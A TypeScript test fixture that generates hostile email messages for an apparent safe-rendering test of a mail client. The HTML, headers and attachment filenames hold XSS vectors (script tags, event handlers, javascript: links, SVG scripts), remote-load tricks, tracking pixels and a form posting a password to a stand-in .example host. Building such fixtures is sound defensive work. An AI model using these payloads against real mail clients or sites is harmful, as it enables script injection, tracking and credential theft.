/**
 * Hostile messages written for the safe-rendering tests: every way an HTML mail can try to
 * run code or reach the network. Scripts would report to /pwned on the server (a loopback
 * address, so the test's recorder sees it) and open dialogs; remote references name hosts
 * under .example that the browser test's network recorder must never see.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const PNG_1PX = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const HOSTILE_HTML = `<html><head>
<base href="https://base.example/">
<meta http-equiv="refresh" content="0;url=https://refresh.example/">
<link rel="stylesheet" href="https://css-link.example/s.css">
<link rel="prefetch" href="https://prefetch.example/">
<link rel="dns-prefetch" href="//dnsprefetch.example">
<style>@import url("https://import.example/a.css"); body { background: url(https://style-bg.example/b.png) }</style>
<script>alert('head'); new Image().src = '/pwned?head';</script>
</head>
<body onload="alert('onload'); new Image().src='/pwned?onload'" background="https://body-bg.example/bg.jpg">
<p>Hostile <b>mail</b>.</p>
<img src="https://tracker.example/pixel.gif?u=alice" width="1" height="1">
<img src="//protocol-relative.example/p.gif">
<img src="x" onerror="alert('onerror'); new Image().src='/pwned?onerror'">
<img srcset="https://srcset.example/a.png 2x" src="data:image/png;base64,${PNG_1PX}">
<img src="cid:logo@hostile">
<div style="background-image:url('https://inline-style.example/i.png')">styled</div>
<table background="https://table-bg.example/t.jpg"><tr><td>cell</td></tr></table>
<a href="javascript:alert('js-link')">javascript link</a>
<a href="https://phish.example/login" onclick="alert('click')">Sign in</a>
<iframe src="https://iframe.example/"></iframe>
<object data="https://object.example/x.swf"></object><embed src="https://embed.example/x.swf">
<form action="https://form.example/steal" method="post"><input name="password" value="x"><button>Send</button></form>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg-script')</script><image href="https://svg-image.example/i.png"/></svg>
<video poster="https://poster.example/p.jpg" src="https://video.example/v.mp4"></video>
<audio src="https://audio.example/a.mp3" autoplay></audio>
<math><mtext><img src="https://math.example/m.png"></mtext></math>
<noscript><img src="https://noscript.example/n.png"></noscript>
<details open ontoggle="alert('toggle')">details</details>
<p style="font-family:x; src:url(https://font.example/f.woff)">font</p>
</body></html>`;

export const HOSTILE_MESSAGES: Record<string, string> = {
  'hostile-html.eml': [
    'From: Attacker <attacker@hostile.example>',
    'To: alice@horizon.example',
    'Subject: Hostile HTML',
    'Date: Tue, 02 May 2017 10:00:00 +0000',
    'Message-ID: <hostile-html@hostile.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="REL"',
    '',
    '--REL',
    'Content-Type: text/html; charset=utf-8',
    '',
    HOSTILE_HTML,
    '--REL',
    'Content-Type: image/png',
    'Content-ID: <logo@hostile>',
    'Content-Transfer-Encoding: base64',
    '',
    PNG_1PX,
    '--REL--',
    '',
  ].join('\r\n'),
  'hostile-names.eml': [
    'From: "<img src=https://from-name.example/x onerror=alert(1)>" <names@hostile.example>',
    'To: alice@horizon.example',
    "Subject: <script>alert('subject')</script><img src=https://subject.example/s.png>",
    'Date: Tue, 02 May 2017 11:00:00 +0000',
    'Message-ID: <hostile-names@hostile.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="MIX"',
    '',
    '--MIX',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'See the attachments. <script>alert("text")</script>',
    '--MIX',
    'Content-Type: text/html; name="<img src=x onerror=alert(2)>.html"',
    'Content-Disposition: attachment; filename="<img src=x onerror=alert(2)>.html"',
    '',
    "<script>alert('html attachment')</script><img src=https://attachment-html.example/a.png>",
    '--MIX',
    'Content-Type: image/svg+xml; name="logo.svg"',
    'Content-Disposition: attachment; filename="logo.svg"',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg attachment")</script><image href="https://attachment-svg.example/i.png"/></svg>',
    '--MIX--',
    '',
  ].join('\r\n'),
};

/** Writes the hostile messages into DIR (created) and returns it. */
export function writeHostileMail(dir: string): string {
  mkdirSync(dir, { recursive: true });
  for (const [name, text] of Object.entries(HOSTILE_MESSAGES)) writeFileSync(join(dir, name), text);
  return dir;
}

/** Hosts the hostile messages name: none may ever be contacted. */
export const HOSTILE_HOST = /\.example\b/;
